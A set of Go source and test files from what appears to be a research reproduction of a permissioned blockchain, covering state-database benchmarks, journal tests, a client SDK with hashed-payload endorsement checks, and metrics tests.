// BenchmarkGet measures reads from a 1k-key namespace.
func BenchmarkGet(b *testing.B) {
	db := New()
	for i := 0; i < 1024; i++ {
		db.Put("ns", fmt.Sprintf("k%d", i), []byte("value"))
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, _, ok := db.Get("ns", fmt.Sprintf("k%d", i%1024)); !ok {
			b.Fatal("missing key")
		}
	}
}

// BenchmarkGetRange measures the range scans behind phantom-read checks.
func BenchmarkGetRange(b *testing.B) {
	db := New()
	for i := 0; i < 1024; i++ {
		db.Put("ns", fmt.Sprintf("k%04d", i), []byte("value"))
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if kvs := db.GetRange("ns", "k0100", "k0200"); len(kvs) != 100 {
			b.Fatalf("range = %d", len(kvs))
		}
	}
}
