package statedb

import (
	"fmt"
	"sync"
	"testing"
)

// populate fills a namespace with n keys k0000..k(n-1), zero-padded so
// lexicographic order equals numeric order.
func populate(db *DB, ns string, n int) {
	for i := 0; i < n; i++ {
		db.Put(ns, fmt.Sprintf("k%06d", i), []byte("value"))
	}
}

// BenchmarkPut measures versioned writes.
func BenchmarkPut(b *testing.B) {
	db := New()
	value := []byte("value")
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		db.Put("ns", fmt.Sprintf("k%d", i%1024), value)
	}
}

// BenchmarkGet measures reads from a 1k-key namespace.
func BenchmarkGet(b *testing.B) {
	db := New()
	populate(db, "ns", 1024)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, _, ok := db.Get("ns", fmt.Sprintf("k%06d", i%1024)); !ok {
			b.Fatal("missing key")
		}
	}
}

// BenchmarkGetRange measures the range scans behind phantom-read checks
// and chaincode range queries, at growing namespace sizes. The scan
// always covers 100 keys, so the series exposes how the cost of locating
// the range scales with the number of keys in the namespace.
// BenchmarkStateDBGetVersions compares the validator's MVCC read-set
// check done key-by-key (one lock acquisition each) against the batched
// GetVersions path (one lock acquisition per namespace).
func BenchmarkStateDBGetVersions(b *testing.B) {
	db := New()
	populate(db, "ns", 10000)
	keys := make([]string, 32)
	for i := range keys {
		keys[i] = fmt.Sprintf("k%06d", i*300)
	}
	b.Run("per-key", func(b *testing.B) {
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			for _, k := range keys {
				if db.GetVersion("ns", k) == 0 {
					b.Fatal("missing key")
				}
			}
		}
	})
	b.Run("batched", func(b *testing.B) {
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			vers := db.GetVersions("ns", keys)
			if vers[0] == 0 {
				b.Fatal("missing key")
			}
		}
	})
}

// BenchmarkStateDBRangeVersions measures the version-only range scan the
// phantom-read check runs, against the value-copying GetRange.
func BenchmarkStateDBRangeVersions(b *testing.B) {
	db := New()
	populate(db, "ns", 10000)
	start, end := fmt.Sprintf("k%06d", 5000), fmt.Sprintf("k%06d", 5100)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if kvs := db.RangeVersions("ns", start, end); len(kvs) != 100 {
			b.Fatalf("range = %d", len(kvs))
		}
	}
}

// BenchmarkStateDBSnapshot measures taking + releasing a consistent view
// over a populated store (the per-endorsement cost of snapshotting) and
// reading through it.
func BenchmarkStateDBSnapshot(b *testing.B) {
	db := New()
	populate(db, "ns", 10000)
	b.Run("take", func(b *testing.B) {
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			snap := db.Snapshot()
			snap.Release()
		}
	})
	b.Run("read", func(b *testing.B) {
		snap := db.Snapshot()
		defer snap.Release()
		b.ReportAllocs()
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			if _, _, ok := snap.Get("ns", fmt.Sprintf("k%06d", i%10000)); !ok {
				b.Fatal("missing key")
			}
		}
	})
}

// BenchmarkStateDBContention runs parallel readers across namespaces
// while a writer commits to its own namespace — the simulate-vs-commit
// pattern striped locking is meant to help.
func BenchmarkStateDBContention(b *testing.B) {
	db := New()
	for ns := 0; ns < 4; ns++ {
		populate(db, fmt.Sprintf("ns%d", ns), 10000)
	}
	stop := make(chan struct{})
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		for i := 0; ; i++ {
			select {
			case <-stop:
				return
			default:
				db.Put("ns0", fmt.Sprintf("k%06d", i%10000), []byte("w"))
			}
		}
	}()
	b.ResetTimer()
	b.RunParallel(func(pb *testing.PB) {
		i := 0
		for pb.Next() {
			ns := fmt.Sprintf("ns%d", 1+i%3) // readers avoid the writer's shard
			if _, _, ok := db.Get(ns, fmt.Sprintf("k%06d", i%10000)); !ok {
				b.Error("missing key")
				return
			}
			i++
		}
	})
	b.StopTimer()
	close(stop)
	wg.Wait()
}

func BenchmarkGetRange(b *testing.B) {
	for _, n := range []int{1024, 10000, 100000} {
		b.Run(fmt.Sprintf("keys=%d", n), func(b *testing.B) {
			db := New()
			populate(db, "ns", n)
			start := fmt.Sprintf("k%06d", n/2)
			end := fmt.Sprintf("k%06d", n/2+100)
			b.ReportAllocs()
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				if kvs := db.GetRange("ns", start, end); len(kvs) != 100 {
					b.Fatalf("range = %d", len(kvs))
				}
			}
		})
	}
}
