package statedb

import (
	"bytes"
	"testing"
)

func TestJournalCapturesResolvedVersions(t *testing.T) {
	db := New()
	db.EnableJournal()

	db.Put("ns", "a", []byte("v1"))
	db.Put("ns", "a", []byte("v2"))
	db.PutAtVersion("ns", "b", []byte("w"), 7)
	db.Delete("ns", "a")
	db.Delete("ns", "never-existed") // no-op, must not journal
	db.ApplyBatch([]Write{
		{Namespace: "ns", Key: "c", Value: []byte("x")},
		{Namespace: "ns", Key: "b", IsDelete: true},
	})

	es := db.DrainJournal()
	want := []JournalEntry{
		{Namespace: "ns", Key: "a", Value: []byte("v1"), Version: 1},
		{Namespace: "ns", Key: "a", Value: []byte("v2"), Version: 2},
		{Namespace: "ns", Key: "b", Value: []byte("w"), Version: 7},
		{Namespace: "ns", Key: "a", Version: 2, Delete: true},
		{Namespace: "ns", Key: "c", Value: []byte("x"), Version: 1},
		{Namespace: "ns", Key: "b", Version: 7, Delete: true},
	}
	if len(es) != len(want) {
		t.Fatalf("journal has %d entries, want %d: %+v", len(es), len(want), es)
	}
	for i := range want {
		got := es[i]
		if got.Namespace != want[i].Namespace || got.Key != want[i].Key ||
			got.Version != want[i].Version || got.Delete != want[i].Delete ||
			!bytes.Equal(got.Value, want[i].Value) {
			t.Fatalf("entry %d = %+v, want %+v", i, got, want[i])
		}
	}
	if again := db.DrainJournal(); len(again) != 0 {
		t.Fatalf("second drain returned %d entries", len(again))
	}
}

func TestJournalDisabledByDefault(t *testing.T) {
	db := New()
	db.Put("ns", "a", []byte("v"))
	if es := db.DrainJournal(); len(es) != 0 {
		t.Fatalf("journal captured %d entries while disabled", len(es))
	}
}

func TestRestoreBatchReproducesState(t *testing.T) {
	src := New()
	src.EnableJournal()
	src.Put("ns1", "a", []byte("v1"))
	src.Put("ns1", "a", []byte("v2"))
	src.Put("ns2", "b", []byte("w"))
	src.Delete("ns2", "b")
	src.Put("ns2", "b", []byte("w2")) // re-creation continues versions
	entries := src.DrainJournal()

	dst := New()
	dst.RestoreBatch(entries)

	if got, want := dst.StateHash(), src.StateHash(); !bytes.Equal(got, want) {
		t.Fatalf("restored StateHash differs:\n got %x\nwant %x", got, want)
	}
	// Version continuity: b was deleted at v1 and re-created at v2; a
	// further put must continue at v3 on both.
	if v1, v2 := src.Put("ns2", "b", []byte("w3")), dst.Put("ns2", "b", []byte("w3")); v1 != 3 || v2 != 3 {
		t.Fatalf("post-restore versions src=%d dst=%d, want 3", v1, v2)
	}
}

func TestRestoreBatchInstallsTombstones(t *testing.T) {
	// A durable tombstone with no preceding put (the put was compacted
	// away) must still pin the re-creation version.
	db := New()
	db.RestoreBatch([]JournalEntry{{Namespace: "ns", Key: "k", Version: 5, Delete: true}})
	if _, _, ok := db.Get("ns", "k"); ok {
		t.Fatal("tombstoned key is live")
	}
	if ver := db.Put("ns", "k", []byte("v")); ver != 6 {
		t.Fatalf("re-creation version = %d, want 6 (continues past tombstone)", ver)
	}
}

func TestStateHashIgnoresWriteOrderAcrossNamespaces(t *testing.T) {
	a, b := New(), New()
	a.Put("ns1", "k", []byte("v"))
	a.Put("ns2", "k", []byte("v"))
	b.Put("ns2", "k", []byte("v"))
	b.Put("ns1", "k", []byte("v"))
	if !bytes.Equal(a.StateHash(), b.StateHash()) {
		t.Fatal("StateHash depends on namespace write order")
	}
	b.Put("ns1", "k", []byte("v2"))
	if bytes.Equal(a.StateHash(), b.StateHash()) {
		t.Fatal("StateHash blind to divergent values")
	}
}
