package client_test

// The client's behaviour is exercised against a real network (the client
// cannot do anything meaningful without peers and an orderer). The
// external test package breaks the import cycle client -> ... <- network.

import (
	"errors"
	"testing"

	"repro/internal/chaincode"
	"repro/internal/client"
	"repro/internal/contracts"
	"repro/internal/core"
	"repro/internal/ledger"
	"repro/internal/network"
	"repro/internal/peer"
	"repro/internal/pvtdata"
)

func newNet(t *testing.T, sec core.SecurityConfig) *network.Network {
	t.Helper()
	n, err := network.New(network.Options{
		Orgs:     []string{"org1", "org2", "org3"},
		Security: sec,
		Seed:     17,
	})
	if err != nil {
		t.Fatal(err)
	}
	def := &chaincode.Definition{
		Name:    "asset",
		Version: "1.0",
		Collections: []pvtdata.CollectionConfig{{
			Name:         "pdc1",
			MemberPolicy: "OR(org1.member, org2.member)",
			MaxPeerCount: 3,
		}},
	}
	impl := contracts.NewPublicAsset()
	for name, fn := range contracts.NewPDC(contracts.PDCOptions{Collection: "pdc1"}) {
		impl[name] = fn
	}
	if err := n.DeployChaincode(def, impl); err != nil {
		t.Fatal(err)
	}
	return n
}

func TestSubmitReturnsPayloadAndBlock(t *testing.T) {
	n := newNet(t, core.OriginalFabric())
	cl := n.Client("org1")
	res, err := cl.SubmitTransaction(n.Peers(), "asset", "add", []string{"k", "7"}, nil)
	if err != nil {
		t.Fatal(err)
	}
	if string(res.Payload) != "7" || res.Code != ledger.Valid {
		t.Fatalf("res = %+v", res)
	}
	if res.TxID == "" {
		t.Fatal("no tx id")
	}
	// BlockNum points at the block actually holding the transaction.
	block, err := n.Peer("org1").Ledger().Block(res.BlockNum)
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, tx := range block.Transactions {
		if tx.TxID == res.TxID {
			found = true
		}
	}
	if !found {
		t.Fatal("BlockNum does not contain the transaction")
	}
}

func TestTransientInputsReachChaincodeButNotLedger(t *testing.T) {
	n := newNet(t, core.OriginalFabric())
	cl := n.Client("org1")
	res, err := cl.SubmitTransaction(
		[]*peer.Peer{n.Peer("org1"), n.Peer("org2")},
		"asset", "setPrivateTransient", []string{"k"},
		map[string][]byte{"value": []byte("4213370042")},
	)
	if err != nil {
		t.Fatal(err)
	}
	if res.Code != ledger.Valid {
		t.Fatalf("code = %v", res.Code)
	}
	// The value reached the members' private stores...
	if v, _, _ := n.Peer("org2").PvtStore().GetPrivate("asset", "pdc1", "k"); string(v) != "4213370042" {
		t.Fatalf("private value = %q", v)
	}
	// ...but appears nowhere in any stored transaction (the transient
	// map is excluded from proposal serialization).
	tx, _, err := n.Peer("org3").Ledger().Transaction(res.TxID)
	if err != nil {
		t.Fatal(err)
	}
	if string(tx.Bytes()) != "" {
		for _, needle := range []string{"4213370042"} {
			if containsSubstring(tx.Bytes(), needle) {
				t.Fatalf("transient value %q leaked into the stored transaction", needle)
			}
		}
	}
}

func containsSubstring(b []byte, s string) bool {
	return len(s) > 0 && len(b) >= len(s) && (string(b) != "" && indexOf(string(b), s) >= 0)
}

func indexOf(haystack, needle string) int {
	for i := 0; i+len(needle) <= len(haystack); i++ {
		if haystack[i:i+len(needle)] == needle {
			return i
		}
	}
	return -1
}

func TestSetSecuritySwitchesFeature2Verification(t *testing.T) {
	n := newNet(t, core.Feature2Only())
	cl := n.Client("org1")
	if _, err := cl.SubmitTransaction(
		[]*peer.Peer{n.Peer("org1"), n.Peer("org2")},
		"asset", "setPrivate", []string{"k", "12"}, nil); err != nil {
		t.Fatal(err)
	}

	// A client without Feature 2 verification still interoperates with
	// Feature 2 endorsers: the live Response echo gives it the
	// plaintext, and the assembled transaction carries the hashed form
	// either way — the ledger never sees the value.
	cl.SetSecurity(core.OriginalFabric())
	res, err := cl.SubmitTransaction(
		[]*peer.Peer{n.Peer("org1"), n.Peer("org2")},
		"asset", "readPrivate", []string{"k"}, nil)
	if err != nil {
		t.Fatal(err)
	}
	if res.Code != ledger.Valid {
		t.Fatalf("naive client tx = %v", res.Code)
	}
	tx, _, err := n.Peer("org3").Ledger().Transaction(res.TxID)
	if err != nil {
		t.Fatal(err)
	}
	prp, err := tx.ResponsePayloadParsed()
	if err != nil {
		t.Fatal(err)
	}
	if string(prp.Response.Payload) == "12" {
		t.Fatal("plaintext private value stored in the blockchain despite Feature 2 endorsers")
	}
	if len(prp.Response.Payload) != 32 {
		t.Fatalf("stored payload is not a SHA-256 digest: %d bytes", len(prp.Response.Payload))
	}

	// With Feature 2 verification on, the client additionally checks
	// the endorser signatures over PR_Hash and recovers the plaintext
	// from PR_Ori.
	cl.SetSecurity(core.Feature2Only())
	res, err = cl.SubmitTransaction(
		[]*peer.Peer{n.Peer("org1"), n.Peer("org2")},
		"asset", "readPrivate", []string{"k"}, nil)
	if err != nil {
		t.Fatal(err)
	}
	if string(res.Payload) != "12" {
		t.Fatalf("Feature 2 client payload = %q", res.Payload)
	}
}

func TestErrNoEndorsersSentinel(t *testing.T) {
	n := newNet(t, core.OriginalFabric())
	cl := n.Client("org2")
	_, err := cl.SubmitTransaction(nil, "asset", "set", []string{"k", "v"}, nil)
	if !errors.Is(err, client.ErrNoEndorsers) {
		t.Fatalf("err = %v", err)
	}
	if cl.Org() != "org2" {
		t.Fatalf("org = %s", cl.Org())
	}
}
