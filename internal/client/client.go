// Package client is the deprecated application-side SDK, kept as a thin
// adapter so existing callers compile unchanged. New code should use
// package gateway (repro/internal/gateway), whose Connect → Network →
// Contract API is context-first and reports transaction fate through the
// commit peer's delivery service.
//
// The adapter preserves the old call shapes (SubmitTransaction, Endorse,
// Order, SubmitWithRetry) but delegates every flow to a gateway.Gateway;
// in particular Order no longer polls the notification peer's ledger —
// it waits for the transaction's commit-status event on the deliver
// stream, exactly like gateway.Contract.Submit.
//
// Deprecated: use repro/internal/gateway.
package client

import (
	"context"
	"errors"
	"fmt"

	"repro/internal/core"
	"repro/internal/gateway"
	"repro/internal/identity"
	"repro/internal/ledger"
	"repro/internal/orderer"
	"repro/internal/peer"
)

// Errors returned by the client. The endorsement errors alias the gateway's
// so errors.Is matches across both packages.
var (
	// ErrNoEndorsers: the caller supplied no endorsing peers.
	ErrNoEndorsers = gateway.ErrNoEndorsers
	// ErrEndorsementMismatch: endorsers returned different results, so
	// no transaction can be assembled.
	ErrEndorsementMismatch = gateway.ErrEndorsementMismatch
	// ErrBadEndorserSignature: a Feature 2 signature over PR_Hash did
	// not verify.
	ErrBadEndorserSignature = gateway.ErrBadEndorserSignature
	// ErrNotCommitted: no commit-status event for the transaction arrived
	// before the commit timeout.
	ErrNotCommitted = errors.New("client: transaction not committed after submission")
)

// Client is one application client.
//
// Deprecated: use gateway.Connect.
type Client struct {
	gw *gateway.Gateway
}

// Config wires a client.
type Config struct {
	Identity *identity.Identity
	Verifier *identity.Verifier
	Orderer  *orderer.Service
	// NotifyPeer is the peer used for commit notifications.
	NotifyPeer *peer.Peer
	Security   core.SecurityConfig
}

// New creates a client.
func New(cfg Config) *Client {
	return &Client{
		gw: gateway.Connect(cfg.Identity, gateway.Options{
			Verifier:   cfg.Verifier,
			Orderer:    cfg.Orderer,
			Security:   cfg.Security,
			CommitPeer: cfg.NotifyPeer,
		}),
	}
}

// Gateway returns the underlying gateway, for callers migrating off this
// adapter incrementally.
func (c *Client) Gateway() *gateway.Gateway { return c.gw }

// Org returns the client's organization.
func (c *Client) Org() string { return c.gw.Identity().MSPID() }

// SetSecurity swaps the active security configuration.
func (c *Client) SetSecurity(sec core.SecurityConfig) { c.gw.SetSecurity(sec) }

// Result is the outcome of a submitted transaction.
type Result struct {
	TxID string
	// Payload is the chaincode's response payload in plaintext (from
	// PR_Ori under Feature 2).
	Payload []byte
	// Code is the validation outcome recorded at the notification peer.
	Code ledger.ValidationCode
	// BlockNum is the block the transaction landed in.
	BlockNum uint64
	// Event is the chaincode event the transaction carries, if any.
	Event *ledger.ChaincodeEvent
}

// EvaluateTransaction runs a query against a single endorser without
// ordering: no transaction is created and the ledger is not updated.
func (c *Client) EvaluateTransaction(
	endorser *peer.Peer,
	chaincodeName, function string,
	args ...string,
) ([]byte, error) {
	prop, err := c.gw.NewProposal(chaincodeName, function, args, nil)
	if err != nil {
		return nil, err
	}
	resp, err := endorser.ProcessProposal(prop)
	if err != nil {
		return nil, fmt.Errorf("client: evaluate %s.%s: %w", chaincodeName, function, err)
	}
	return resp.Response.Payload, nil
}

// SubmitTransaction collects endorsements from the given endorsers,
// checks their consistency, assembles a transaction, submits it for
// ordering and reports the validation outcome. This is the paper's
// submitTransaction(name, [args]) path: even reads submitted this way
// produce a transaction that lands in every peer's blockchain.
func (c *Client) SubmitTransaction(
	endorsers []*peer.Peer,
	chaincodeName, function string,
	args []string,
	transient map[string][]byte,
) (*Result, error) {
	prop, err := c.gw.NewProposal(chaincodeName, function, args, transient)
	if err != nil {
		return nil, err
	}
	tx, payload, err := c.Endorse(prop, endorsers)
	if err != nil {
		return nil, err
	}
	res, err := c.Order(tx)
	if err != nil {
		return nil, err
	}
	res.Payload = payload
	return res, nil
}

// Endorse collects endorsements for a proposal and assembles the
// transaction, returning it together with the plaintext payload. Exposed
// separately so attack harnesses and benchmarks can interpose.
func (c *Client) Endorse(prop *ledger.Proposal, endorsers []*peer.Peer) (*ledger.Transaction, []byte, error) {
	return c.gw.EndorseProposal(context.Background(), prop, endorsers)
}

// Order submits an assembled transaction for ordering and waits for its
// commit-status event from the notification peer's delivery service.
func (c *Client) Order(tx *ledger.Transaction) (*Result, error) {
	res, err := c.gw.SubmitAssembled(context.Background(), tx, nil)
	if err != nil {
		if errors.Is(err, gateway.ErrCommitStatusUnavailable) {
			return nil, fmt.Errorf("%w: %s", ErrNotCommitted, tx.TxID)
		}
		return nil, fmt.Errorf("client: order tx %s: %w", tx.TxID, err)
	}
	return &Result{
		TxID:     res.TxID,
		Code:     res.Code,
		BlockNum: res.BlockNum,
		Event:    res.Event,
	}, nil
}

// SubmitWithRetry submits a transaction, re-endorsing and resubmitting
// when the result is an MVCC read conflict — the standard SDK pattern
// for contended keys, since a conflict only means another transaction
// committed between simulation and validation.
func (c *Client) SubmitWithRetry(
	endorsers []*peer.Peer,
	chaincodeName, function string,
	args []string,
	transient map[string][]byte,
	maxAttempts int,
) (*Result, error) {
	if maxAttempts < 1 {
		maxAttempts = 1
	}
	var last *Result
	for attempt := 0; attempt < maxAttempts; attempt++ {
		res, err := c.SubmitTransaction(endorsers, chaincodeName, function, args, transient)
		if err != nil {
			return nil, err
		}
		if res.Code != ledger.MVCCConflict {
			return res, nil
		}
		last = res
	}
	return last, fmt.Errorf("client: tx still conflicting after %d attempts", maxAttempts)
}

// NewProposal exposes proposal construction for harnesses that need to
// interpose between endorsement and ordering.
func (c *Client) NewProposal(
	chaincodeName, function string,
	args []string,
	transient map[string][]byte,
) (*ledger.Proposal, error) {
	return c.gw.NewProposal(chaincodeName, function, args, transient)
}
