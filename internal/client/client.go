// Package client implements the application-side SDK: building proposals,
// collecting endorsements from chosen endorsers, checking that all
// endorsers returned the same results, assembling the transaction and
// submitting it for ordering (paper §II-B, the submitTransaction /
// evaluateTransaction APIs).
//
// Under defense Feature 2 the client verifies the endorser's signature
// over the hashed-payload form PR_Hash, keeps the plaintext PR_Ori for
// itself, and assembles the transaction from PR_Hash (Fig. 4 steps 6–7).
package client

import (
	"bytes"
	"errors"
	"fmt"

	"repro/internal/core"
	"repro/internal/identity"
	"repro/internal/ledger"
	"repro/internal/orderer"
	"repro/internal/peer"
)

// Errors returned by the client.
var (
	// ErrNoEndorsers: the caller supplied no endorsing peers.
	ErrNoEndorsers = errors.New("client: no endorsers specified")
	// ErrEndorsementMismatch: endorsers returned different results, so
	// no transaction can be assembled.
	ErrEndorsementMismatch = errors.New("client: endorsers returned inconsistent results")
	// ErrBadEndorserSignature: a Feature 2 signature over PR_Hash did
	// not verify.
	ErrBadEndorserSignature = errors.New("client: endorser signature over hashed payload invalid")
	// ErrNotCommitted: the transaction did not appear in the ledger.
	ErrNotCommitted = errors.New("client: transaction not found in ledger after submission")
)

// Client is one application client.
type Client struct {
	id       *identity.Identity
	verifier *identity.Verifier
	orderer  *orderer.Service
	// notifyPeer is the peer whose ledger the client watches for
	// commit status, normally a peer of the client's own organization.
	notifyPeer *peer.Peer
	sec        core.SecurityConfig
}

// Config wires a client.
type Config struct {
	Identity *identity.Identity
	Verifier *identity.Verifier
	Orderer  *orderer.Service
	// NotifyPeer is the peer used for commit notifications.
	NotifyPeer *peer.Peer
	Security   core.SecurityConfig
}

// New creates a client.
func New(cfg Config) *Client {
	return &Client{
		id:         cfg.Identity,
		verifier:   cfg.Verifier,
		orderer:    cfg.Orderer,
		notifyPeer: cfg.NotifyPeer,
		sec:        cfg.Security,
	}
}

// Org returns the client's organization.
func (c *Client) Org() string { return c.id.MSPID() }

// SetSecurity swaps the active security configuration.
func (c *Client) SetSecurity(sec core.SecurityConfig) { c.sec = sec }

// Result is the outcome of a submitted transaction.
type Result struct {
	TxID string
	// Payload is the chaincode's response payload in plaintext (from
	// PR_Ori under Feature 2).
	Payload []byte
	// Code is the validation outcome recorded at the notification peer.
	Code ledger.ValidationCode
	// BlockNum is the block the transaction landed in.
	BlockNum uint64
	// Event is the chaincode event the transaction carries, if any.
	Event *ledger.ChaincodeEvent
}

// EvaluateTransaction runs a query against a single endorser without
// ordering: no transaction is created and the ledger is not updated.
func (c *Client) EvaluateTransaction(
	endorser *peer.Peer,
	chaincodeName, function string,
	args ...string,
) ([]byte, error) {
	prop, err := c.newProposal(chaincodeName, function, args, nil)
	if err != nil {
		return nil, err
	}
	resp, err := endorser.ProcessProposal(prop)
	if err != nil {
		return nil, fmt.Errorf("client: evaluate %s.%s: %w", chaincodeName, function, err)
	}
	return resp.Response.Payload, nil
}

// SubmitTransaction collects endorsements from the given endorsers,
// checks their consistency, assembles a transaction, submits it for
// ordering and reports the validation outcome. This is the paper's
// submitTransaction(name, [args]) path: even reads submitted this way
// produce a transaction that lands in every peer's blockchain.
func (c *Client) SubmitTransaction(
	endorsers []*peer.Peer,
	chaincodeName, function string,
	args []string,
	transient map[string][]byte,
) (*Result, error) {
	prop, err := c.newProposal(chaincodeName, function, args, transient)
	if err != nil {
		return nil, err
	}
	tx, payload, err := c.Endorse(prop, endorsers)
	if err != nil {
		return nil, err
	}
	res, err := c.Order(tx)
	if err != nil {
		return nil, err
	}
	res.Payload = payload
	return res, nil
}

// Endorse collects endorsements for a proposal and assembles the
// transaction, returning it together with the plaintext payload. Exposed
// separately so attack harnesses and benchmarks can interpose.
func (c *Client) Endorse(prop *ledger.Proposal, endorsers []*peer.Peer) (*ledger.Transaction, []byte, error) {
	if len(endorsers) == 0 {
		return nil, nil, ErrNoEndorsers
	}
	responses := make([]*ledger.ProposalResponse, 0, len(endorsers))
	for _, e := range endorsers {
		resp, err := e.ProcessProposal(prop)
		if err != nil {
			return nil, nil, fmt.Errorf("client: endorsement from %s: %w", e.Name(), err)
		}
		responses = append(responses, resp)
	}

	// Consistency check: all endorsers must have produced the same
	// signed payload bytes (results + response).
	first := responses[0]
	for _, r := range responses[1:] {
		if !bytes.Equal(r.Payload, first.Payload) {
			return nil, nil, fmt.Errorf("%w: proposal %s", ErrEndorsementMismatch, prop.TxID)
		}
	}

	payload := first.Response.Payload
	if c.sec.HashedPayloadEndorsement {
		plain, err := c.verifyHashedEndorsements(responses)
		if err != nil {
			return nil, nil, err
		}
		payload = plain
	}

	tx := &ledger.Transaction{
		TxID:            prop.TxID,
		ChannelID:       prop.ChannelID,
		Creator:         prop.Creator,
		Proposal:        prop,
		ResponsePayload: first.Payload,
	}
	for _, r := range responses {
		tx.Endorsements = append(tx.Endorsements, r.Endorsement)
	}
	return tx, payload, nil
}

// verifyHashedEndorsements implements the client side of Feature 2: for
// each endorser, recompute PR_Hash from the returned PR_Ori, check it
// matches the signed payload, and verify the signature. Returns the
// plaintext payload for the caller.
func (c *Client) verifyHashedEndorsements(responses []*ledger.ProposalResponse) ([]byte, error) {
	var plain []byte
	for _, r := range responses {
		if len(r.PlainPayload) == 0 {
			return nil, fmt.Errorf("%w: endorser returned no plaintext form", ErrBadEndorserSignature)
		}
		prp, err := ledger.ParseProposalResponsePayload(r.PlainPayload)
		if err != nil {
			return nil, fmt.Errorf("client: parse PR_Ori: %w", err)
		}
		recomputed := prp.HashedPayloadForm().Bytes()
		if !bytes.Equal(recomputed, r.Payload) {
			return nil, fmt.Errorf("%w: PR_Hash mismatch", ErrBadEndorserSignature)
		}
		cert, err := identity.ParseCertificate(r.Endorsement.Endorser)
		if err != nil {
			return nil, fmt.Errorf("client: parse endorser cert: %w", err)
		}
		if err := c.verifier.VerifySignature(cert, r.Payload, r.Endorsement.Signature); err != nil {
			return nil, fmt.Errorf("%w: %v", ErrBadEndorserSignature, err)
		}
		plain = prp.Response.Payload
	}
	return plain, nil
}

// Order submits an assembled transaction for ordering and waits for the
// commit outcome at the notification peer.
func (c *Client) Order(tx *ledger.Transaction) (*Result, error) {
	if err := c.orderer.Submit(tx); err != nil {
		return nil, fmt.Errorf("client: order tx %s: %w", tx.TxID, err)
	}
	// With batching, the transaction may still be pending; force a cut.
	if _, _, err := c.notifyPeer.Ledger().Transaction(tx.TxID); err != nil {
		c.orderer.Flush()
	}
	committed, code, err := c.notifyPeer.Ledger().Transaction(tx.TxID)
	if err != nil {
		return nil, fmt.Errorf("%w: %s", ErrNotCommitted, tx.TxID)
	}
	blockNum := uint64(0)
	c.notifyPeer.Ledger().Scan(func(bn uint64, t *ledger.Transaction, _ ledger.ValidationCode) bool {
		if t.TxID == committed.TxID {
			blockNum = bn
			return false
		}
		return true
	})
	res := &Result{TxID: tx.TxID, Code: code, BlockNum: blockNum}
	if prp, err := committed.ResponsePayloadParsed(); err == nil {
		res.Event = prp.Event
	}
	return res, nil
}

// SubmitWithRetry submits a transaction, re-endorsing and resubmitting
// when the result is an MVCC read conflict — the standard SDK pattern
// for contended keys, since a conflict only means another transaction
// committed between simulation and validation.
func (c *Client) SubmitWithRetry(
	endorsers []*peer.Peer,
	chaincodeName, function string,
	args []string,
	transient map[string][]byte,
	maxAttempts int,
) (*Result, error) {
	if maxAttempts < 1 {
		maxAttempts = 1
	}
	var last *Result
	for attempt := 0; attempt < maxAttempts; attempt++ {
		res, err := c.SubmitTransaction(endorsers, chaincodeName, function, args, transient)
		if err != nil {
			return nil, err
		}
		if res.Code != ledger.MVCCConflict {
			return res, nil
		}
		last = res
	}
	return last, fmt.Errorf("client: tx still conflicting after %d attempts", maxAttempts)
}

// newProposal builds a proposal signed-over by this client's identity.
func (c *Client) newProposal(
	chaincodeName, function string,
	args []string,
	transient map[string][]byte,
) (*ledger.Proposal, error) {
	nonce, err := ledger.NewNonce()
	if err != nil {
		return nil, err
	}
	creator := c.id.Cert.Bytes()
	prop := &ledger.Proposal{
		TxID:      ledger.NewTxID(nonce, creator),
		ChannelID: "", // set by NewProposalForChannel when needed
		Chaincode: chaincodeName,
		Function:  function,
		Args:      args,
		Creator:   creator,
		Nonce:     nonce,
		Transient: transient,
	}
	return prop, nil
}

// NewProposal exposes proposal construction for harnesses that need to
// interpose between endorsement and ordering.
func (c *Client) NewProposal(
	chaincodeName, function string,
	args []string,
	transient map[string][]byte,
) (*ledger.Proposal, error) {
	return c.newProposal(chaincodeName, function, args, transient)
}
