package metrics

import (
	"strings"
	"sync"
	"testing"
)

func TestCounters(t *testing.T) {
	var c Counters
	if c.Get("x") != 0 {
		t.Fatal("zero-value counter non-zero")
	}
	c.Inc("x")
	c.Add("x", 2)
	c.Inc("y")
	if c.Get("x") != 3 || c.Get("y") != 1 {
		t.Fatalf("x=%d y=%d", c.Get("x"), c.Get("y"))
	}
	snap := c.Snapshot()
	c.Inc("x")
	if snap["x"] != 3 {
		t.Fatal("snapshot not isolated")
	}
	s := c.String()
	if !strings.Contains(s, "x=4") || !strings.Contains(s, "y=1") {
		t.Fatalf("string = %q", s)
	}
	// x sorts before y.
	if strings.Index(s, "x=") > strings.Index(s, "y=") {
		t.Fatal("not sorted")
	}
}

func TestCountersConcurrent(t *testing.T) {
	var c Counters
	var wg sync.WaitGroup
	for i := 0; i < 8; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for j := 0; j < 1000; j++ {
				c.Inc("n")
			}
		}()
	}
	wg.Wait()
	if c.Get("n") != 8000 {
		t.Fatalf("n = %d", c.Get("n"))
	}
}
