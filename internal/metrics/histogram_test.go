package metrics

import (
	"sync"
	"testing"
	"time"
)

func TestHistogramBasics(t *testing.T) {
	var h Histogram
	samples := []time.Duration{
		500 * time.Nanosecond,
		3 * time.Microsecond,
		40 * time.Microsecond,
		2 * time.Millisecond,
	}
	var sum time.Duration
	for _, s := range samples {
		h.Observe(s)
		sum += s
	}
	snap := h.Snapshot()
	if snap.Count != uint64(len(samples)) {
		t.Fatalf("count = %d, want %d", snap.Count, len(samples))
	}
	if snap.Sum != sum {
		t.Fatalf("sum = %v, want %v", snap.Sum, sum)
	}
	if snap.Min != 500*time.Nanosecond || snap.Max != 2*time.Millisecond {
		t.Fatalf("min/max = %v/%v", snap.Min, snap.Max)
	}
	if got := snap.Mean(); got != sum/4 {
